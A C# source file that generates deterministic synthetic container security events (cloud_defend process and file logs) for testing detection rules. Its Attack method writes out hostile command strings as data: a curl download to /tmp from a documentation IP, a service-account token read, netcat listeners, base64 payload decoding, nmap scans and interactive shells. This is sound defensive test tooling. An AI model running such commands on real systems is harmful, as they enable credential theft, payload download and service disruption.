using System.Buffers;
using System.Globalization;
using System.Text;
using System.Text.Json;

namespace Vigil.Events.Generation;

/// <summary>
/// Writes a deterministic, synthetic stream of Defend for Containers documents (<c>logs-cloud_defend.process-default</c>
/// and <c>logs-cloud_defend.file-default</c>) shaped like the integration's: varied hosts, containers, images, users,
/// commands and arguments, with leaders, container, orchestrator, host and cloud objects (about 1.5 KiB a line). A small
/// fraction of lines are true positives for several container rules (tool installation, interactive shells, downloads,
/// encoded payloads, netcat, service-account token reads, process killing). The same seed always gives the same bytes.
/// </summary>
public sealed class EventGenerator
{
    /// <summary>Fraction of events that are attack activity (true positives for some rule).</summary>
    public const double AttackFraction = 0.002;

    private static readonly DateTimeOffset Epoch = new(2026, 11, 20, 0, 0, 0, TimeSpan.Zero);

    private sealed record Host(string Name, string Id, string Os, string OsName, string Family, string Version, string Kernel, string Cloud, string Region, string Cluster, string BootId, string AgentId, string PolicyId);

    private sealed record Image(string Name, string Tag, string Family, string[] Workload, string Shell);

    private sealed record Container(string Id, Image Image, Host Host, string Namespace, string Pod, int EntryPid, string EntryName, long EntryStart);

    private static readonly Image[] Images =
    [
        new("nginx", "1.27.2", "debian", ["nginx -g daemon off;", "nginx -s reload", "sh -c /docker-entrypoint.d/20-envsubst-on-templates.sh", "cat /etc/nginx/nginx.conf", "logrotate /etc/logrotate.conf"], "/bin/sh"),
        new("redis", "7.2.5", "debian", ["redis-server *:6379", "redis-cli ping", "redis-cli info replication", "sh -c redis-cli -h localhost ping"], "/bin/sh"),
        new("postgres", "16.4", "debian", ["postgres -c config_file=/etc/postgresql/postgresql.conf", "pg_isready -U postgres", "psql -U app -c select 1", "pg_dump -U app appdb", "sh -c pg_isready -q"], "/bin/bash"),
        new("registry.internal.example/payments/payments-api", "2.14.1", "debian", ["java -Xmx512m -jar /app/payments.jar", "curl -fsS http://localhost:8080/health", "sh -c curl -fsS http://localhost:8080/ready", "jcmd 1 GC.heap_info"], "/bin/bash"),
        new("registry.internal.example/web/frontend", "5.3.0", "alpine", ["node /app/server.js", "npm run healthcheck", "wget -q -O - http://localhost:3000/healthz", "sh -c node /app/scripts/warm-cache.js"], "/bin/sh"),
        new("python", "3.12-slim", "debian", ["python3 /srv/app/main.py --workers 4", "gunicorn app:app -b 0.0.0.0:8000", "python3 -m celery -A tasks worker", "sh -c python3 /srv/app/manage.py check"], "/bin/bash"),
        new("alpine", "3.20", "alpine", ["sleep 3600", "crond -f -l 8", "sh -c date >> /var/log/heartbeat", "ls -la /data", "find /data -mtime +7 -name *.log"], "/bin/sh"),
        new("ubuntu", "22.04", "debian", ["sleep infinity", "bash -c while true; do sleep 30; done", "tar -czf /backup/data.tgz /data", "df -h", "du -sh /var/lib/app"], "/bin/bash"),
        new("fedora", "40", "rpm", ["sleep infinity", "dnf check-update", "sh -c ls /opt", "cat /etc/os-release"], "/bin/bash"),
        new("grafana/grafana", "11.2.0", "alpine", ["grafana server --homepath=/usr/share/grafana", "sh -c grafana cli plugins ls", "wget -q --spider http://localhost:3000/api/health"], "/bin/sh"),
    ];

    private static readonly string[] Users = ["root", "app", "www-data", "postgres", "redis", "nobody", "node", "grafana"];

    private static readonly string[] InteractiveCommands =
    [
        "ls -la", "ps aux", "cat /etc/hosts", "env", "top -b -n 1", "df -h", "ls /var/log", "tail -n 100 /var/log/app.log",
        "vi /etc/app/config.yaml", "cat /proc/1/status", "free -m", "uptime", "hostname", "date", "id", "pwd", "history",
        "grep -i error /var/log/app.log", "netstat -tlnp", "mount", "cat /etc/resolv.conf", "less /var/log/syslog",
    ];

    private static readonly string[] FilePaths =
    [
        "/var/log/app/app.log", "/tmp/cache/session-{0}.tmp", "/var/lib/app/data-{0}.db", "/srv/app/uploads/{0}.png", "/var/cache/nginx/{0}",
        "/data/exports/report-{0}.csv", "/home/app/.cache/pip/{0}.whl", "/var/spool/cron/crontabs/root", "/etc/app/config.yaml", "/run/app.pid",
    ];

    private readonly Random _rng;
    private readonly Host[] _hosts;
    private readonly Container[] _containers;
    private readonly Dictionary<string, string> _executables = new(StringComparer.Ordinal);
    private DateTimeOffset _clock;
    private int _nextPid = 1000;
    private long _eventId;

    /// <summary>Creates a generator; equal seeds give equal output.</summary>
    public EventGenerator(int seed)
    {
        _rng = new Random(seed);
        _clock = Epoch.AddSeconds(_rng.Next(0, 86_400));
        var clusters = new[] { ("prod-eu-1", "aws", "eu-west-1", "6.8.0-1021-aws"), ("prod-us-2", "aws", "us-east-2", "6.8.0-1021-aws"), ("ci-us-1", "gcp", "us-central1", "6.8.0-1019-gcp"), ("edge-ap-1", "azure", "japaneast", "6.5.0-1025-azure") };
        _hosts = Enumerable.Range(0, 24).Select(i =>
        {
            var (cluster, cloud, region, kernel) = clusters[i % clusters.Length];
            var ubuntu = i % 3 != 0;
            return new Host($"{cluster}-node-{i:D2}", Hex(32), "linux", ubuntu ? "Ubuntu" : "Amazon Linux", ubuntu ? "ubuntu" : "amzn",
                ubuntu ? "22.04.5 LTS (Jammy Jellyfish)" : "2023", kernel, cloud, region, cluster, Uuid(), Uuid(), Uuid());
        }).ToArray();
        string[] namespaces = ["default", "payments", "web", "data", "monitoring", "ci", "kube-system"];
        _containers = Enumerable.Range(0, 240).Select(i =>
        {
            var image = Images[_rng.Next(Images.Length)];
            var host = _hosts[_rng.Next(_hosts.Length)];
            var ns = namespaces[_rng.Next(namespaces.Length)];
            var name = image.Name[(image.Name.LastIndexOf('/') + 1)..];
            return new Container(Hex(64), image, host, ns, $"{name}-{Hex(10)}-{Hex(5)}", NextPid(), image.Workload[0].Split(' ')[0], _clock.ToUnixTimeSeconds() - _rng.Next(60, 86_400));
        }).ToArray();
    }

    /// <summary>Writes <paramref name="count"/> NDJSON lines to <paramref name="output"/>.</summary>
    public void Write(Stream output, long count)
    {
        ArgumentNullException.ThrowIfNull(output);
        var buffer = new ArrayBufferWriter<byte>(1 << 20);
        using var writer = new Utf8JsonWriter(buffer, new JsonWriterOptions { SkipValidation = true });
        for (long i = 0; i < count; i++)
        {
            WriteEvent(writer);
            writer.Flush();
            writer.Reset();
            buffer.Write("\n"u8);
            if (buffer.WrittenCount > (1 << 20) - 8192)
            {
                output.Write(buffer.WrittenSpan);
                buffer.ResetWrittenCount();
            }
        }
        output.Write(buffer.WrittenSpan);
    }

    private void WriteEvent(Utf8JsonWriter w)
    {
        _clock = _clock.AddMilliseconds(_rng.Next(0, 40));
        var c = _containers[_rng.Next(_containers.Length)];
        var roll = _rng.NextDouble();
        if (roll < AttackFraction)
        {
            WriteProcess(w, c, Attack(c), interactive: true, action: "exec");
            return;
        }
        if (roll < 0.15)
        {
            WriteFile(w, c);
            return;
        }
        var interactive = roll < 0.21;
        var command = interactive ? InteractiveCommands[_rng.Next(InteractiveCommands.Length)] : c.Image.Workload[_rng.Next(c.Image.Workload.Length)];
        var action = _rng.Next(10) switch { < 2 => "fork", < 8 => "exec", _ => "end" };
        WriteProcess(w, c, command, interactive, action);
    }

    /// <summary>Commands that some container rule detects.</summary>
    private string Attack(Container c)
    {
        string[] tools = ["curl", "wget", "socat", "netcat-openbsd", "python3", "perl", "nodejs", "openssl", "ncat"];
        var tool = tools[_rng.Next(tools.Length)];
        return _rng.Next(9) switch
        {
            0 or 1 => c.Image.Family switch
            {
                "alpine" => $"apk add {tool}",
                "rpm" => $"dnf install -y {tool}",
                _ => $"apt-get install -y {tool}",
            },
            2 => $"curl -sSL -o /tmp/.x http://203.0.113.{_rng.Next(1, 255)}/x",
            3 => "base64 -d /tmp/p.b64",
            4 => $"nc -lvnp {_rng.Next(1024, 65535)}",
            5 => "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            6 => $"pkill -9 {c.EntryName}",
            7 => $"nmap -sS 10.0.{_rng.Next(0, 255)}.0/24",
            _ => "bash -i",
        };
    }

    private void WriteProcess(Utf8JsonWriter w, Container c, string command, bool interactive, string action)
    {
        var args = command.Split(' ', StringSplitOptions.RemoveEmptyEntries);
        var name = Path.GetFileName(args[0]);
        var user = c.Image.Name is "postgres" or "redis" ? c.Image.Name : interactive ? "root" : Users[_rng.Next(Users.Length)];
        var pid = NextPid();
        var start = _clock.AddMilliseconds(-_rng.Next(1, 500));
        var shellPid = interactive ? c.EntryPid + 1 + _rng.Next(0, 40) : c.EntryPid;
        var shellName = interactive ? Path.GetFileName(c.Image.Shell) : c.EntryName;
        WriteHead(w, c, action == "end" ? "end" : "start", action, "process", "process");
        w.WriteStartObject("process");
        w.WriteNumber("pid", pid);
        w.WriteString("entity_id", EntityId(c, pid, start));
        w.WriteString("name", name);
        w.WriteString("executable", Executable(name));
        w.WriteStartArray("args");
        foreach (var a in args)
        {
            w.WriteStringValue(a);
        }
        w.WriteEndArray();
        w.WriteNumber("args_count", args.Length);
        w.WriteString("command_line", command);
        w.WriteString("working_directory", interactive ? "/root" : "/");
        w.WriteString("start", Time(start));
        if (action == "end")
        {
            w.WriteString("end", Time(_clock));
            w.WriteNumber("exit_code", _rng.Next(10) == 0 ? 1 : 0);
        }
        w.WriteBoolean("interactive", interactive);
        if (interactive)
        {
            w.WriteStartObject("tty");
            w.WriteStartObject("char_device");
            w.WriteNumber("major", 136);
            w.WriteNumber("minor", _rng.Next(0, 8));
            w.WriteEndObject();
            w.WriteEndObject();
        }
        WriteIds(w, user, withNames: true);
        WriteLeader(w, "parent", c, shellPid, shellName, interactive, sameAsProcess: null);
        if (interactive)
        {
            // Outside an interactive session the entry leader leads the session; real documents then often omit it.
            WriteLeader(w, "session_leader", c, shellPid, shellName, interactive, sameAsProcess: false);
        }
        WriteLeader(w, "entry_leader", c, c.EntryPid, interactive ? "runc" : c.EntryName, false, sameAsProcess: false, entryMeta: true);
        w.WriteEndObject();
        WriteTail(w, c, user, action == "fork" ? "tracepoint__sched_process_fork" : action == "end" ? "kprobe__taskstats_exit" : "tracepoint__sched_process_exec");
    }

    private void WriteFile(Utf8JsonWriter w, Container c)
    {
        var path = string.Format(CultureInfo.InvariantCulture, FilePaths[_rng.Next(FilePaths.Length)], Hex(8));
        var action = _rng.Next(4) switch { 0 => "creation", 1 => "deletion", 2 => "rename", _ => "modification" };
        var pid = NextPid();
        var start = _clock.AddSeconds(-_rng.Next(1, 3600));
        WriteHead(w, c, action == "creation" ? "creation" : action == "deletion" ? "deletion" : "change", action, "file", "file");
        w.WriteStartObject("file");
        w.WriteString("path", path);
        w.WriteString("name", Path.GetFileName(path));
        var ext = Path.GetExtension(path);
        if (ext.Length > 1)
        {
            w.WriteString("extension", ext[1..]);
        }
        w.WriteEndObject();
        w.WriteStartObject("process");
        w.WriteNumber("pid", pid);
        w.WriteString("entity_id", EntityId(c, pid, start));
        w.WriteString("name", c.EntryName);
        w.WriteString("executable", Executable(c.EntryName));
        w.WriteString("start", Time(start));
        w.WriteBoolean("interactive", false);
        WriteIds(w, "root", withNames: true);
        WriteLeader(w, "entry_leader", c, c.EntryPid, c.EntryName, false, sameAsProcess: false, entryMeta: true);
        w.WriteEndObject();
        WriteTail(w, c, "root", "lsm__path_" + (action == "deletion" ? "unlink" : action == "rename" ? "rename" : "truncate"));
    }

    private void WriteHead(Utf8JsonWriter w, Container c, string type, string action, string category, string dataset)
    {
        _eventId++;
        w.WriteStartObject();
        w.WriteString("@timestamp", Time(_clock));
        w.WriteStartObject("agent");
        w.WriteString("id", c.Host.AgentId);
        w.WriteEndObject();
        w.WriteStartObject("event");
        w.WriteString("kind", "event");
        w.WriteStartArray("category");
        w.WriteStringValue(category);
        w.WriteEndArray();
        w.WriteStartArray("type");
        w.WriteStringValue(type);
        w.WriteEndArray();
        w.WriteString("action", action);
        w.WriteString("id", $"{c.Host.AgentId.AsSpan(0, 8)}-{_eventId:D10}");
        w.WriteString("created", Time(_clock.AddMilliseconds(_rng.Next(1, 9))));
        w.WriteString("ingested", Time(_clock.AddMilliseconds(_rng.Next(1200, 3800))));
        w.WriteString("module", "cloud_defend");
        w.WriteString("dataset", "cloud_defend." + dataset);
        w.WriteEndObject();
        w.WriteStartObject("data_stream");
        w.WriteString("type", "logs");
        w.WriteString("dataset", "cloud_defend." + dataset);
        w.WriteString("namespace", "default");
        w.WriteEndObject();
    }

    private static void WriteTail(Utf8JsonWriter w, Container c, string user, string hookPoint)
    {
        WriteIds(w, user, withNames: true);
        w.WriteStartObject("container");
        w.WriteString("id", c.Id);
        w.WriteStartObject("image");
        w.WriteString("name", c.Image.Name);
        w.WriteString("tag", c.Image.Tag);
        w.WriteEndObject();
        w.WriteEndObject();
        w.WriteStartObject("orchestrator");
        w.WriteString("namespace", c.Namespace);
        w.WriteStartObject("resource");
        w.WriteString("name", c.Pod);
        w.WriteString("type", "pod");
        w.WriteEndObject();
        w.WriteStartObject("cluster");
        w.WriteString("name", c.Host.Cluster);
        w.WriteEndObject();
        w.WriteEndObject();
        var h = c.Host;
        w.WriteStartObject("host");
        w.WriteString("name", h.Name);
        w.WriteString("hostname", h.Name);
        w.WriteString("id", h.Id);
        w.WriteString("architecture", "x86_64");
        w.WriteStartObject("os");
        w.WriteString("type", h.Os);
        w.WriteString("name", h.OsName);
        w.WriteString("family", h.Family);
        w.WriteString("version", h.Version);
        w.WriteString("kernel", h.Kernel);
        w.WriteEndObject();
        w.WriteStartObject("boot");
        w.WriteString("id", h.BootId);
        w.WriteEndObject();
        w.WriteNumber("pid_ns_ino", 4026531836);
        w.WriteEndObject();
        w.WriteStartObject("cloud");
        w.WriteString("provider", h.Cloud);
        w.WriteString("region", h.Region);
        w.WriteEndObject();
        w.WriteStartObject("cloud_defend");
        w.WriteString("package_policy_id", h.PolicyId);
        w.WriteNumber("package_policy_revision", 3);
        w.WriteString("hook_point", hookPoint);
        w.WriteStartArray("matched_selectors");
        w.WriteStringValue("allProcesses");
        w.WriteEndArray();
        w.WriteEndObject();
        w.WriteEndObject();
    }

    private void WriteLeader(Utf8JsonWriter w, string property, Container c, int pid, string name, bool interactive, bool? sameAsProcess, bool entryMeta = false)
    {
        var start = DateTimeOffset.FromUnixTimeSeconds(c.EntryStart + (pid - c.EntryPid));
        w.WriteStartObject(property);
        w.WriteNumber("pid", pid);
        w.WriteString("entity_id", EntityId(c, pid, start));
        w.WriteString("name", name);
        w.WriteString("executable", Executable(name));
        w.WriteString("start", Time(start));
        w.WriteBoolean("interactive", interactive);
        if (sameAsProcess is { } same)
        {
            w.WriteBoolean("same_as_process", same);
        }
        WriteIds(w, "0", withNames: false);
        if (entryMeta)
        {
            w.WriteStartObject("entry_meta");
            w.WriteString("type", "container");
            w.WriteEndObject();
        }
        w.WriteEndObject();
    }

    private static void WriteIds(Utf8JsonWriter w, string user, bool withNames)
    {
        var id = user switch { "root" or "0" => "0", "www-data" => "33", "nobody" => "65534", "postgres" => "999", "redis" => "998", _ => "1000" };
        w.WriteStartObject("user");
        w.WriteString("id", id);
        if (withNames)
        {
            w.WriteString("name", user == "0" ? "root" : user);
        }
        w.WriteEndObject();
        w.WriteStartObject("group");
        w.WriteString("id", id);
        if (withNames)
        {
            w.WriteString("name", user == "0" ? "root" : user);
        }
        w.WriteEndObject();
    }

    private string Executable(string name)
    {
        if (!_executables.TryGetValue(name, out var path))
        {
            path = name switch
            {
                "sh" or "bash" or "dash" => "/bin/" + name,
                "runc" => "/usr/bin/runc",
                "crond" or "nginx" or "postgres" or "redis-server" => "/usr/sbin/" + name,
                "java" => "/opt/java/openjdk/bin/java",
                "node" or "npm" => "/usr/local/bin/" + name,
                _ => "/usr/bin/" + name,
            };
            _executables[name] = path;
        }
        return path;
    }

    private int NextPid()
    {
        _nextPid += _rng.Next(1, 7);
        if (_nextPid > 4_000_000)
        {
            _nextPid = 1000;
        }
        return _nextPid;
    }

    private static string EntityId(Container c, int pid, DateTimeOffset start) =>
        Convert.ToBase64String(Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"{c.Host.AgentId}-{pid}-{start.ToUnixTimeSeconds()}")));

    private static string Time(DateTimeOffset t) => t.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture);

    private string Hex(int length)
    {
        Span<byte> bytes = stackalloc byte[(length + 1) / 2];
        _rng.NextBytes(bytes);
        return Convert.ToHexStringLower(bytes)[..length];
    }

    private string Uuid()
    {
        Span<byte> bytes = stackalloc byte[16];
        _rng.NextBytes(bytes);
        return new Guid(bytes).ToString();
    }
}
